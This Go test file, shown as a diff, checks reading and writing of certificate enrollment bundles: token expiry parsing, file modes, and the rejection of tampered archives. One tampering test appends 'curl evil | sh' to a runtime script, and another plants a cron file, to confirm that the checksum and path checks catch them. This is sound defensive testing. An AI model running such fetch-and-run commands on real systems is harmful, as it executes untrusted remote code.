@@ -0,0 +1,314 @@
+package bundle
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"errors"
+	"io"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+// jwt returns an unsigned token with the given claims.
+func jwt(claims string) string {
+	enc := base64.RawURLEncoding.EncodeToString
+	return enc([]byte(`{"alg":"ES256"}`)) + "." + enc([]byte(claims)) + ".c2ln"
+}
+
+func testContents(t *testing.T) Contents {
+	t.Helper()
+	runtime := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(runtime, "lib"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	files := map[string]os.FileMode{"auto-ssl": 0755, "lib/common.sh": 0644}
+	for name, mode := range files {
+		if err := os.WriteFile(filepath.Join(runtime, name), []byte("#!/bin/bash\n# "+name+"\n"), mode); err != nil {
+			t.Fatal(err)
+		}
+	}
+	step := filepath.Join(t.TempDir(), "step")
+	if err := os.WriteFile(step, []byte("step binary"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	created := time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC)
+	return Contents{
+		Manifest: Manifest{
+			Host:         "web1",
+			SANs:         []string{"web1.internal", "192.168.1.50"},
+			CAURL:        "https://192.168.1.10:9000",
+			Fingerprint:  "c8de2b5d6c3d1f2b",
+			Created:      created,
+			TokenExpires: created.Add(24 * time.Hour),
+		},
+		RuntimeDir:   runtime,
+		RootCA:       []byte("-----BEGIN CERTIFICATE-----\n"),
+		Token:        jwt(`{"sub":"web1.internal","exp":1714651200}`),
+		StepBinaries: map[string]string{"arm64": step, "amd64": step},
+	}
+}
+
+func build(t *testing.T, c Contents) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	if err := Write(&buf, c); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+type entry struct {
+	hdr  *tar.Header
+	data []byte
+}
+
+func entries(t *testing.T, data []byte) []entry {
+	t.Helper()
+	gz, err := gzip.NewReader(bytes.NewReader(data))
+	if err != nil {
+		t.Fatal(err)
+	}
+	tr := tar.NewReader(gz)
+	var list []entry
+	for {
+		hdr, err := tr.Next()
+		if errors.Is(err, io.EOF) {
+			return list
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		body, err := io.ReadAll(tr)
+		if err != nil {
+			t.Fatal(err)
+		}
+		list = append(list, entry{hdr: hdr, data: body})
+	}
+}
+
+func repack(t *testing.T, list []entry) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for _, e := range list {
+		e.hdr.Size = int64(len(e.data))
+		if err := tw.WriteHeader(e.hdr); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := tw.Write(e.data); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := gz.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+func TestWriteRead(t *testing.T) {
+	c := testContents(t)
+	data := build(t, c)
+
+	m, err := Read(bytes.NewReader(data))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := c.Manifest
+	want.Version = Version
+	want.StepArches = []string{"amd64", "arm64"}
+	// The token's own exp claim, not the manifest's day.
+	want.TokenExpires = time.Unix(1714651200, 0).UTC()
+	if !reflect.DeepEqual(*m, want) {
+		t.Errorf("manifest\n got %+v\nwant %+v", *m, want)
+	}
+
+	modes := map[string]int64{}
+	contents := map[string]string{}
+	for _, e := range entries(t, data) {
+		if e.hdr.Typeflag == tar.TypeReg {
+			name := strings.TrimPrefix(e.hdr.Name, Dir+"/")
+			modes[name] = e.hdr.Mode
+			contents[name] = string(e.data)
+		}
+	}
+	wantModes := map[string]int64{
+		ManifestName:            0644,
+		RootName:                0644,
+		TokenName:               0600,
+		"runtime/auto-ssl":      0755,
+		"runtime/lib/common.sh": 0644,
+		"bin/step-amd64":        0755,
+		"bin/step-arm64":        0755,
+		ChecksumsName:           0644,
+	}
+	if !reflect.DeepEqual(modes, wantModes) {
+		t.Errorf("files and modes %v, want %v", modes, wantModes)
+	}
+	if contents[TokenName] != c.Token+"\n" {
+		t.Errorf("token %q", contents[TokenName])
+	}
+	if !strings.Contains(contents[ManifestName], "san=192.168.1.50\n") {
+		t.Errorf("manifest without one san= line per SAN:\n%s", contents[ManifestName])
+	}
+	// Every file but the checksums themselves, in sha256sum -c format.
+	if n := strings.Count(contents[ChecksumsName], "\n"); n != len(wantModes)-1 {
+		t.Errorf("%d checksums, want %d:\n%s", n, len(wantModes)-1, contents[ChecksumsName])
+	}
+}
+
+func TestReadTokenExpiry(t *testing.T) {
+	tests := []struct {
+		name  string
+		token string
+		want  time.Time
+	}{
+		{name: "from the token", token: jwt(`{"exp":1714600000}`), want: time.Unix(1714600000, 0).UTC()},
+		{name: "token without exp keeps the manifest's", token: jwt(`{"sub":"web1"}`), want: time.Date(2024, 5, 2, 12, 0, 0, 0, time.UTC)},
+		{name: "not a JWT keeps the manifest's", token: "opaque", want: time.Date(2024, 5, 2, 12, 0, 0, 0, time.UTC)},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			c := testContents(t)
+			c.Token = tt.token
+			m, err := Read(bytes.NewReader(build(t, c)))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !m.TokenExpires.Equal(tt.want) {
+				t.Errorf("token expires %v, want %v", m.TokenExpires, tt.want)
+			}
+		})
+	}
+}
+
+func TestTokenExpiry(t *testing.T) {
+	tests := []struct {
+		name    string
+		token   string
+		want    time.Time
+		wantErr string
+	}{
+		{name: "exp", token: jwt(`{"exp":1714651200,"nbf":1714650000}`), want: time.Unix(1714651200, 0).UTC()},
+		{name: "padded payload", token: "e30." + base64.URLEncoding.EncodeToString([]byte(`{"exp":1}`)) + ".c2ln", want: time.Unix(1, 0).UTC()},
+		{name: "no exp", token: jwt(`{"sub":"web1"}`), wantErr: "token has no expiry"},
+		{name: "two parts", token: "a.b", wantErr: "token is not a JWT"},
+		{name: "bad base64", token: "a.!!!.c", wantErr: "token is not a JWT"},
+		{name: "payload not json", token: jwt(`exp`), wantErr: "token is not a JWT"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := TokenExpiry(tt.token)
+			if tt.wantErr != "" {
+				if err == nil || !strings.HasPrefix(err.Error(), tt.wantErr) {
+					t.Errorf("err = %v, want %q", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !got.Equal(tt.want) {
+				t.Errorf("expires %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestReadRejectsTampering(t *testing.T) {
+	tests := []struct {
+		name    string
+		tamper  func([]entry) []entry
+		wantErr string
+	}{
+		{
+			name: "changed token",
+			tamper: func(list []entry) []entry {
+				for i := range list {
+					if list[i].hdr.Name == Dir+"/"+TokenName {
+						list[i].data = []byte(jwt(`{"exp":4102444800}`) + "\n")
+					}
+				}
+				return list
+			},
+			wantErr: "bundle is corrupt: checksum mismatch for token",
+		},
+		{
+			name: "changed runtime",
+			tamper: func(list []entry) []entry {
+				for i := range list {
+					if strings.HasSuffix(list[i].hdr.Name, "/runtime/auto-ssl") {
+						list[i].data = append(list[i].data, "curl evil | sh\n"...)
+					}
+				}
+				return list
+			},
+			wantErr: "bundle is corrupt: checksum mismatch for runtime/auto-ssl",
+		},
+		{
+			name: "added file",
+			tamper: func(list []entry) []entry {
+				extra := entry{hdr: &tar.Header{Name: Dir + "/runtime/extra.sh", Mode: 0755, Typeflag: tar.TypeReg}, data: []byte("x")}
+				return append(list[:len(list)-1:len(list)-1], extra, list[len(list)-1])
+			},
+			wantErr: "bundle is corrupt: runtime/extra.sh is not in " + ChecksumsName,
+		},
+		{
+			name: "removed checksums",
+			tamper: func(list []entry) []entry {
+				return list[:len(list)-1]
+			},
+			wantErr: "not an enrollment bundle: missing",
+		},
+		{
+			name: "file outside the bundle directory",
+			tamper: func(list []entry) []entry {
+				return append(list, entry{hdr: &tar.Header{Name: "etc/cron.d/x", Mode: 0644, Typeflag: tar.TypeReg}, data: []byte("x")})
+			},
+			wantErr: "unexpected file in bundle: etc/cron.d/x",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			data := repack(t, tt.tamper(entries(t, build(t, testContents(t)))))
+			_, err := Read(bytes.NewReader(data))
+			if err == nil || !strings.HasPrefix(err.Error(), tt.wantErr) {
+				t.Errorf("err = %v, want %q", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestReadRejectsOtherFiles(t *testing.T) {
+	if _, err := Read(strings.NewReader("not a tarball")); err == nil || !strings.HasPrefix(err.Error(), "not an enrollment bundle") {
+		t.Errorf("err = %v, want not an enrollment bundle", err)
+	}
+
+	// A later format this build does not know, with valid checksums.
+	list := entries(t, build(t, testContents(t)))
+	manifest := &list[0]
+	for i := range list {
+		if list[i].hdr.Name == Dir+"/"+ManifestName {
+			manifest = &list[i]
+		}
+	}
+	oldSum := sha256.Sum256(manifest.data)
+	manifest.data = bytes.Replace(manifest.data, []byte("version=1\n"), []byte("version=2\n"), 1)
+	newSum := sha256.Sum256(manifest.data)
+	last := &list[len(list)-1]
+	last.data = bytes.Replace(last.data, []byte(hex.EncodeToString(oldSum[:])), []byte(hex.EncodeToString(newSum[:])), 1)
+	if _, err := Read(bytes.NewReader(repack(t, list))); err == nil || err.Error() != "unsupported bundle version 2" {
+		t.Errorf("err = %v, want unsupported bundle version 2", err)
+	}
+}